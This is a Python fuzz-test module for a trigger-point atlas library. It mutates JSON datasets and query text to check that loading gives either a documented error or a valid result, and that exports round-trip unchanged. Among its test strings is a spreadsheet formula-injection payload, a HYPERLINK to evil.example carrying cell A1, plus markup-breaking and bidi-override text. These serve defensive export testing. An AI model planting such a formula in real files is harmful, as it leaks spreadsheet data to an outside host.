"""Fuzzing: hostile datasets and random query text get a documented error or a valid result.

The strategies here mutate a valid dataset (the mini fixture, or a small extension file
of the packaged data) in the ways a careless or hostile author would: drop a field or a
record, give a value another JSON type, duplicate a record, point a reference at nothing,
bury a value in deep nesting, make a text or a list huge, put text that no output format
can carry into a string, or spell a twin of a name with look-alike letters. Each mutation
says whether the loader must refuse it. The properties:

* loading gives a :class:`~triggerpoints.TriggerPointsError` or an atlas, never another
  exception, and a mutation documented as invalid is never loaded;
* every export of an atlas that loads parses back with its text unchanged: GraphML and
  SVG as XML, node-link data as JSON, the tables as CSV;
* random query text gives a documented error or a result.

Examples run with a small budget here (derandomized in CI); ``benchmarks/fuzz.py`` runs
the same strategies over at least 10,000 datasets and prints counts by outcome. A hang
guard (an alarm, where the platform has one) turns a call that never returns into a
failure; speed itself is measured by the benchmark, not asserted here.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import signal
import tempfile
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import attrs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import triggerpoints as tp
from triggerpoints.exceptions import InputTooLargeError

MINI = Path(__file__).parent / "fixtures" / "mini.json"

#: A small valid extension of the packaged data: a source, a region, a muscle with one
#: trigger point, a relation to a packaged muscle and an alias for one.
EXTENSION: dict[str, Any] = {
    "schema_version": "1.0",
    "sources": [
        {
            "id": "source:fuzz-notes",
            "kind": "web-page",
            "tier": "practitioner",
            "title": "Fuzz notes",
            "url": "https://example.org/fuzz",
            "accessed": "2026-01-01",
        }
    ],
    "regions": [
        {
            "id": "region:fuzz-spot",
            "name": "Fuzz spot",
            "parent": "region:lateral-leg",
            "views": ["anterior"],
            "sided": True,
        }
    ],
    "muscles": [
        {
            "id": "muscle:fuzzius",
            "name": "Fuzzius",
            "aliases": ["fuzz muscle"],
            "body_area": "leg-ankle-and-foot",
            "sources": ["source:fuzz-notes"],
        }
    ],
    "trigger_points": [
        {
            "id": "tp:fuzzius-1",
            "muscle": "muscle:fuzzius",
            "label": "TrP1",
            "sources": ["source:fuzz-notes"],
            "referrals": [
                {"region": "region:fuzz-spot", "zone": "essential", "sources": ["source:fuzz-notes"]},
                {"region": "region:ankle", "zone": "spillover", "sources": ["source:fuzz-notes"]},
            ],
        }
    ],
    "relations": [
        {
            "id": "relation:fuzzius-satellite-soleus",
            "kind": "satellite",
            "source": "muscle:fuzzius",
            "target": "muscle:soleus",
            "mechanism": "Made up for fuzzing.",
            "sources": ["source:fuzz-notes"],
        }
    ],
    "extra_aliases": [{"record": "muscle:soleus", "aliases": ["fuzz calf"], "sources": ["source:fuzz-notes"]}],
}

#: Characters no dataset text may hold (each is a reason to refuse a file).
BAD_CHARACTERS = ("\x00", "\x07", "\x0b", "\x0c", "\r", "\x1b", "\x7f", "\x85", "\x9b", "\ud800", "\udfff", "\uffff")

#: Text that loads and must reach every output unchanged: markup, spreadsheet-looking
#: cells, quotes, tabs and newlines, other scripts, combining marks and astral characters.
AWKWARD_TEXT = (
    "<b>&amp; \"quoted\" 'single'</b>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a, b; c | d",
    "tab\tand\nnewline",
    "  padded  ",
    "Ωμέγα and Кириллица",
    "e\u0301 combining, \u200d joiner, \u202e reversed",
    "astral \U0001f600 \U00013000 \U00020000",
    "]]> --> <!-- <![CDATA[",
)

#: A value of each JSON type, for giving a value another type.
OTHER_VALUES: tuple[Any, ...] = (0, 1.5, True, "text", [], {}, ["text"], {"key": "value"}, None)

#: The slowest load or query that a run tolerates before calling it a hang.
HANG = 60.0


class Mutated(NamedTuple):
    """A mutated document, what was done to it, and whether loading must refuse it."""

    document: Any
    kind: str
    must_refuse: bool
    ascii_only: bool


class Outcome(NamedTuple):
    """What loading (and, for an atlas, exporting) a mutated document gave."""

    kind: str  # "loaded", "refused", "unexpected", "silent" or "export"
    detail: str
    seconds: float


# --- where things are in a document ------------------------------------------------------


def _locations(value: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every value in a decoded document with its location (keys and indexes from the top), top first."""
    yield here, value
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _locations(item, (*here, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _locations(item, (*here, index))


def _at(document: Any, location: tuple[Any, ...]) -> Any:
    for step in location:
        document = document[step]
    return document


def _set(document: Any, location: tuple[Any, ...], value: Any) -> None:
    _at(document, location[:-1])[location[-1]] = value


def _records(document: dict[str, Any]) -> list[tuple[str, int]]:
    """(section, index) of every record in the sections that hold records with ids."""
    sections = [kind.section for kind in tp.KINDS]
    return [
        (section, index)
        for section in sections
        if isinstance(document.get(section), list)
        for index, record in enumerate(document[section])
        if isinstance(record, dict) and isinstance(record.get("id"), str)
    ]


def _record_class(section: str) -> type[Any]:
    return next(kind.record_class for kind in tp.KINDS if kind.section == section)


# --- the mutations -------------------------------------------------------------------------

#: The JSON types seen at each place of the base document (list indexes written ``[]``).
Observed = dict[str, frozenset[str]]
Mutation = Callable[[st.DrawFn, dict[str, Any], Observed], tuple[str, bool]]


def _drop(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Drop a record's field (refused if it is required), a whole record, or a whole section."""
    records = _records(document)
    choice = draw(st.sampled_from(["field", "record", "regions"]))
    if choice == "regions" or not records:
        document.pop("regions", None)
        return "drop the regions", True  # a standalone file needs its hierarchy; an extension may omit it
    section, index = draw(st.sampled_from(records))
    if choice == "record":
        del document[section][index]
        return "drop a record", False  # references to it may dangle: refused or not, either is right
    record = document[section][index]
    field = draw(st.sampled_from(sorted(record)))
    required = {f.name for f in attrs.fields(_record_class(section)) if f.default is attrs.NOTHING}
    del record[field]
    return f"drop {'a required' if field in required else 'an optional'} field", field in required


def _retype(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Give a value (not the document itself) a value of another JSON type; refused unless the base has that type there."""
    locations = [location for location, _value in _locations(document) if location]
    location = draw(st.sampled_from(locations))
    old = _at(document, location)
    new = draw(st.sampled_from([new for new in OTHER_VALUES if _json_type(new) != _json_type(old)]))
    _set(document, location, copy.deepcopy(new))
    return "retype a value", _unseen(observed, location, new)


def _shape(location: tuple[Any, ...]) -> str:
    """A location with its list indexes left out: the place in the format, not in one document."""
    return "".join("[]" if isinstance(step, int) else f".{step}" for step in location)


def _observed(base: Any) -> Observed:
    """The JSON types each place of ``base`` holds."""
    found: dict[str, set[str]] = {}
    for location, value in _locations(base):
        found.setdefault(_shape(location), set()).add(_json_type(value))
    return {shape: frozenset(types) for shape, types in found.items()}


def _unseen(observed: Observed, location: tuple[Any, ...], value: Any) -> bool:
    """Whether ``value``, or a value inside it, has a type the base never holds at its place.

    Null aside (optional fields take it), and places the base does not have aside: no
    claim is made about those.
    """
    for inner, item in _locations(value, location):
        seen = observed.get(_shape(inner))
        if item is not None and seen is not None and _json_type(item) not in seen:
            return True
    return False


def _json_type(value: Any) -> str:
    """The JSON type of a decoded value (whole and fractional numbers are one type)."""
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, int | float):
        return "number"
    return "null" if value is None else type(value).__name__


def _duplicate(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Append a copy of a record to its section: its id is then defined twice."""
    records = _records(document)
    if not records:
        return "no record to duplicate", False
    section, index = draw(st.sampled_from(records))
    document[section].append(copy.deepcopy(document[section][index]))
    return "duplicate a record", True


def _dangle(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Point one reference (not an id) at an id that no record has."""
    ids = {document[section][index]["id"] for section, index in _records(document)}
    references = [
        location
        for location, value in _locations(document)
        if isinstance(value, str) and value in ids and location[-1] != "id"
    ]
    if not references:  # pragma: no cover - the base documents all have references
        return "no reference to dangle", False
    location = draw(st.sampled_from(references))
    prefix = _at(document, location).partition(":")[0]
    _set(document, location, f"{prefix}:fuzz-missing-record")
    return "dangle a reference", True


def _deepen(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Bury a value under 1 to 60 levels of lists (refused where the base has no lists, or nests too deeply)."""
    locations = [location for location, _value in _locations(document) if location]
    location = draw(st.sampled_from(locations))
    value = _at(document, location)
    levels = draw(st.integers(1, 60))
    for _level in range(levels):
        value = [value]
    _set(document, location, value)
    return "deepen a value", levels > 30 or _unseen(observed, location, value)


def _oversize(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Make a text, an alias list, the region hierarchy or a section large (all of it valid)."""
    choice = draw(st.sampled_from(["text", "aliases", "chain", "records"]))
    size = draw(st.sampled_from([10, 1_000, 20_000]))
    muscles = [muscle for muscle in document.get("muscles") or () if isinstance(muscle, dict)]
    regions = [region for region in document.get("regions") or () if isinstance(region, dict) and "id" in region]
    if choice == "text" and muscles:
        muscles[0]["name"] = " ".join(f"word{number}" for number in range(size))
    elif choice == "aliases" and muscles:
        muscles[0]["aliases"] = [f"fuzz alias {number}" for number in range(size)]
    elif regions:
        root = regions[0]
        parent = root["id"]
        count = min(size, 1_500)
        for number in range(count):
            region = {**root, "id": f"region:fuzz-{number}", "name": f"Fuzz {number}", "aliases": []}
            region["parent"] = parent if choice == "chain" else root["id"]
            region.pop("caution", None)
            document["regions"].append(region)
            parent = region["id"] if choice == "chain" else parent
    return f"oversize: {choice}", False


def _bad_text(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Put a character no output can carry into a string value or a key."""
    char = draw(st.sampled_from(BAD_CHARACTERS))
    strings = [location for location, value in _locations(document) if location and isinstance(value, str)]
    in_value: bool = draw(st.booleans())
    if strings and in_value:
        location = draw(st.sampled_from(strings))
        text = _at(document, location)
        where = draw(st.integers(0, len(text)))
        _set(document, location, text[:where] + char + text[where:])
        return "bad text in a value", True
    containers = [location for location, value in _locations(document) if isinstance(value, dict) and value]
    location = draw(st.sampled_from(containers))
    mapping = _at(document, location)
    key = draw(st.sampled_from(sorted(mapping)))
    mapping[key + char] = mapping.pop(key)
    return "bad text in a key", True


_LATIN_TO_CYRILLIC = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441", "x": "\u0445"}


def _lookalike(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Add a twin of a muscle or region whose name differs only by a look-alike Cyrillic letter."""
    named = [
        (section, record)
        for section in ("muscles", "regions")
        for record in document.get(section) or ()
        if isinstance(record, dict) and isinstance(record.get("name"), str) and isinstance(record.get("id"), str)
    ]
    spots = [
        (section, record, number)
        for section, record in named
        for number, char in enumerate(record["name"])
        if char in _LATIN_TO_CYRILLIC
    ]
    if not spots:
        return "no letter to look alike", False
    section, original, spot = draw(st.sampled_from(spots))
    name = original["name"]
    twin = {**copy.deepcopy(original), "id": f"{original['id'].partition(':')[0]}:fuzz-twin", "aliases": []}
    twin["name"] = name[:spot] + _LATIN_TO_CYRILLIC[name[spot]] + name[spot + 1 :]
    twin.pop("caution", None)
    document[section].append(twin)
    return "look-alike twin", True


def _awkward(draw: st.DrawFn, document: dict[str, Any], observed: Observed) -> tuple[str, bool]:
    """Put text that every output must carry unchanged into a free-text field."""
    fields = ("name", "description", "note", "mechanism", "title", "caution")
    locations = [
        location
        for location, value in _locations(document)
        if location and location[-1] in fields and isinstance(value, str)
    ]
    if not locations:
        return "no text to make awkward", False
    number = draw(st.integers(0, len(locations) - 1))
    _set(document, locations[number], f"{draw(st.sampled_from(AWKWARD_TEXT))} {number}")
    return "awkward text", False


MUTATIONS: dict[str, Mutation] = {
    "drop": _drop,
    "retype": _retype,
    "duplicate": _duplicate,
    "dangle": _dangle,
    "deepen": _deepen,
    "oversize": _oversize,
    "bad text": _bad_text,
    "look-alike": _lookalike,
    "awkward text": _awkward,
}


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], *, extension: bool = False) -> Mutated:
    """One to three mutations of ``base``: it must be refused if the last one must.

    An earlier mutation may be undone by a later one (a dangling reference whose record
    is then dropped, a look-alike name then overwritten), so only the last one decides.
    """
    document = copy.deepcopy(base)
    observed = _observed(base)
    kinds: list[str] = []
    must_refuse = False
    for _step in range(draw(st.integers(1, 3))):
        name = draw(st.sampled_from(sorted(MUTATIONS)))
        kind, must_refuse = MUTATIONS[name](draw, document, observed)
        if kind == "drop the regions" and extension:
            must_refuse = False  # an extension file may leave the regions out
        kinds.append(kind)
    return Mutated(document, " + ".join(kinds), must_refuse, draw(st.booleans()))


# --- the properties ------------------------------------------------------------------------


@contextlib.contextmanager
def hang_guard(seconds: float) -> Iterator[None]:
    """Raise TimeoutError if the block runs longer than ``seconds`` (where the platform has alarms)."""
    if not hasattr(signal, "SIGALRM"):  # pragma: no cover - Windows
        yield
        return

    def expire(_signal: int, _frame: object) -> None:
        raise TimeoutError(f"no result after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def write(mutation: Mutated, folder: Path) -> Path:
    """Write a mutated document as a file: ASCII JSON, or UTF-8 with any lone surrogates as bad bytes."""
    path = folder / "mutated.json"
    if mutation.ascii_only:
        path.write_text(json.dumps(mutation.document), encoding="ascii")
    else:
        path.write_bytes(json.dumps(mutation.document, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    return path


def problem_kind(error: tp.TriggerPointsError) -> str:
    """A short name for why a file was refused, from its first problem."""
    if isinstance(error, InputTooLargeError):
        return f"too large: {error.unit}"
    if not isinstance(error, tp.DatasetError) or not error.problems:
        return type(error).__name__
    message = error.problems[0].message
    for marker in (
        "lone surrogate",
        "control character",
        "not a character",
        "looks like",
        "dangling reference",
        "duplicate id",
        "duplicate key",
        "required field missing",
        "unknown field",
        "not valid JSON",
        "cannot read",
        "needs regions",
        "already names",
        "expected",
        "cycle",
        "root",
    ):
        if marker in message:
            return marker
    return message.split(":")[0][:40]


def load_outcome(mutation: Mutated, *, extend: bool, bound: float = HANG) -> tuple[Outcome, tp.Atlas | None]:
    """Load a mutated document from a file and say what happened."""
    with tempfile.TemporaryDirectory() as folder:
        path = write(mutation, Path(folder))
        started = time.perf_counter()
        try:
            with hang_guard(bound):
                atlas = tp.load(path, extend=extend)
        except tp.TriggerPointsError as error:
            return Outcome("refused", problem_kind(error), time.perf_counter() - started), None
        except TimeoutError:
            return Outcome("unexpected", "hang", time.perf_counter() - started), None
        except Exception as error:  # noqa: BLE001 - any other exception is what this looks for
            return Outcome("unexpected", f"{type(error).__name__}: {error}"[:200], time.perf_counter() - started), None
    seconds = time.perf_counter() - started
    if mutation.must_refuse:
        return Outcome("silent", mutation.kind, seconds), atlas
    return Outcome("loaded", mutation.kind, seconds), atlas


def _string_items(attributes: dict[str, Any]) -> dict[str, str]:
    return {key: value for key, value in attributes.items() if isinstance(value, str)}


def check_graphml(atlas: tp.Atlas) -> None:
    """GraphML parses as XML, and every text attribute of every node and edge reads back unchanged."""
    root = ET.fromstring(tp.graphml(atlas=atlas).encode("utf-8"))  # noqa: S314 - our own output
    space = "{http://graphml.graphdrawing.org/xmlns}"
    texts = {
        key.get("id"): key.get("attr.name")
        for key in root.iter(f"{space}key")
        if key.get("attr.type") == "string" and key.get("for") in ("node", "edge")
    }

    def data(element: ET.Element, left_out: tuple[str, ...]) -> str:
        found = {
            texts[item.get("key")]: item.text or ""
            for item in element.findall(f"{space}data")
            if item.get("key") in texts
        }
        return json.dumps({k: v for k, v in found.items() if k not in left_out}, sort_keys=True, ensure_ascii=False)

    def attributes(item: dict[str, Any], left_out: tuple[str, ...]) -> str:
        kept = {k: v for k, v in item.items() if isinstance(v, str) and k not in left_out}
        return json.dumps(kept, sort_keys=True, ensure_ascii=False)

    graph = tp.node_link(atlas=atlas)
    # A node's id is an XML attribute; an edge's ends, key and relation are written in ways of their own.
    node, edge = ("id",), ("id", "source", "target", "key", "relation")
    expected = sorted(attributes(item, node) for item in graph["nodes"])
    assert expected == sorted(data(element, node) for element in root.iter(f"{space}node"))
    edges = graph["edges"] if "edges" in graph else graph["links"]
    expected = sorted(attributes(item, edge) for item in edges)
    assert expected == sorted(data(element, edge) for element in root.iter(f"{space}edge"))


def check_node_link(atlas: tp.Atlas) -> None:
    """Node-link data writes as UTF-8 JSON and reads back equal."""
    graph = tp.node_link(atlas=atlas)
    text = json.dumps(graph, ensure_ascii=False).encode("utf-8").decode("utf-8")
    assert graph == json.loads(text)


def check_csv(atlas: tp.Atlas) -> None:
    """Every table writes as CSV (as ``triggerpoints export csv`` does) and reads back with the same cells."""
    limit = csv.field_size_limit()
    csv.field_size_limit(max(limit, 1 << 30))  # the reader's default stops at 128 KiB cells (an oversized name)
    try:
        _check_csv(atlas)
    finally:
        csv.field_size_limit(limit)


def _check_csv(atlas: tp.Atlas) -> None:
    for name, rows in tp.tables(atlas=atlas).items():
        handle = io.StringIO(newline="")
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]) if rows else [], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        handle.getvalue().encode("utf-8")
        back = list(csv.DictReader(io.StringIO(handle.getvalue(), newline="")))
        assert (name, rows) == (name, back)


def check_svg(atlas: tp.Atlas) -> None:
    """A body map of the atlas's regions, titled with a region's name, parses as XML and holds that title."""
    regions = [region.id for region in atlas.regions[:4]]
    title = atlas.regions[-1].name[:200]
    try:
        picture = tp.draw_regions(regions, title=title, atlas=atlas)
    except tp.TriggerPointsError:
        return  # regions that cannot be drawn are refused, which is a documented answer
    root = ET.fromstring(str(picture).encode("utf-8"))  # noqa: S314 - our own output
    assert title in {element.text for element in root.iter()}


EXPORTS: dict[str, Callable[[tp.Atlas], None]] = {
    "graphml": check_graphml,
    "node-link": check_node_link,
    "csv": check_csv,
    "svg": check_svg,
}


def export_failures(atlas: tp.Atlas) -> list[str]:
    """The exports that do not parse back, with what went wrong."""
    failures: list[str] = []
    for name, check in EXPORTS.items():
        try:
            with hang_guard(HANG):
                check(atlas)
        except Exception as error:  # noqa: BLE001, PERF203 - every failure is collected and reported
            failures.append(f"{name}: {type(error).__name__}: {error}"[:300])
    return failures


def assert_documented(mutation: Mutated, *, extend: bool) -> None:
    """The property for one mutated document: refused with a documented error, or loaded and exported."""
    outcome, atlas = load_outcome(mutation, extend=extend)
    assert "unexpected" != outcome.kind, (mutation.kind, outcome.detail)
    assert "silent" != outcome.kind, f"loaded though invalid: {mutation.kind}"
    if atlas is not None:
        assert [] == export_failures(atlas), mutation.kind


def mini_document() -> dict[str, Any]:
    """The mini dataset, decoded."""
    document: dict[str, Any] = json.loads(MINI.read_text(encoding="utf-8"))
    return document


_FUZZ = settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@_FUZZ
@given(mutated(mini_document()))
def test_a_mutated_dataset_is_refused_with_a_documented_error_or_loads_and_exports(mutation: Mutated) -> None:
    """A mutated mini dataset is refused by a TriggerPointsError, or (if valid) loads and every export parses back."""
    assert_documented(mutation, extend=False)


@settings(_FUZZ, max_examples=12)
@given(mutated(EXTENSION, extension=True))
def test_a_mutated_extension_file_is_refused_with_a_documented_error_or_loads(mutation: Mutated) -> None:
    """A mutated extension file is refused by a TriggerPointsError or loads on top of the packaged data."""
    outcome, _atlas = load_outcome(mutation, extend=True)
    assert "unexpected" != outcome.kind, (mutation.kind, outcome.detail)
    assert "silent" != outcome.kind, f"loaded though invalid: {mutation.kind}"


@pytest.mark.parametrize("text", AWKWARD_TEXT)
def test_awkward_text_reaches_every_export_unchanged(text: str, tmp_path: Path) -> None:
    """Markup, formula-looking cells, tabs, newlines and astral characters in a name survive every export."""
    document = mini_document()
    document["muscles"][0]["name"] = text
    document["regions"][-1]["name"] = text + " region"
    path = tmp_path / "awkward.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    assert [] == export_failures(tp.load(path))


# --- random query text -----------------------------------------------------------------------


def _vocabulary() -> list[str]:
    atlas = tp.load()
    words = {word for region in atlas.regions for name in (region.name, *region.aliases) for word in name.split()}
    return sorted(words | {"not", "but", "between", "and", "to", "back", "of", "left", "can't", "turn", ","})


#: Query text: any characters (lone surrogates and controls too), phrases of place words,
#: and repetitions far past the length limit.
QUERIES = st.one_of(
    st.text(st.characters(exclude_categories=()), max_size=300),
    st.lists(st.sampled_from(_vocabulary()), max_size=250).map(" ".join),
    st.tuples(
        st.sampled_from(["thigh ", "back of the ", "zzz ", "between thumb and index finger "]), st.integers(0, 30_000)
    ).map(lambda pair: pair[0] * pair[1]),
)

DOCUMENTED = (tp.TriggerPointsError,)


def run_queries(text: str) -> list[str]:
    """Ask every query function about ``text``; return what each gave ("ok" or the error's class)."""
    atlas = tp.load()
    calls: dict[str, Callable[[], object]] = {
        "resolve_place": lambda: tp.resolve_place(text),
        "rank": lambda: tp.rank([text, "calf"], strict=False),
        "rank terms": lambda: tp.rank("calf", activities=[text], symptoms=[text], absent=[text], strict=False),
        "trace": lambda: tp.trace("quadratus lumborum", text),
        "trace source": lambda: tp.trace(text, "lateral leg"),
        "find": lambda: atlas.find(text),
        "search": lambda: atlas.search(text[:1000]),
    }
    results: list[str] = []
    for name, call in calls.items():
        try:
            with hang_guard(HANG):
                call()
            results.append(f"{name}: ok")
        except DOCUMENTED as error:  # noqa: PERF203 - each call stands on its own
            results.append(f"{name}: {type(error).__name__}")
    return results


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(QUERIES)
def test_random_query_text_gets_a_documented_error_or_a_result(text: str) -> None:
    """Any text, in any of the query functions, gives a result or a TriggerPointsError (nothing else escapes)."""
    assert 7 == len(run_queries(text))
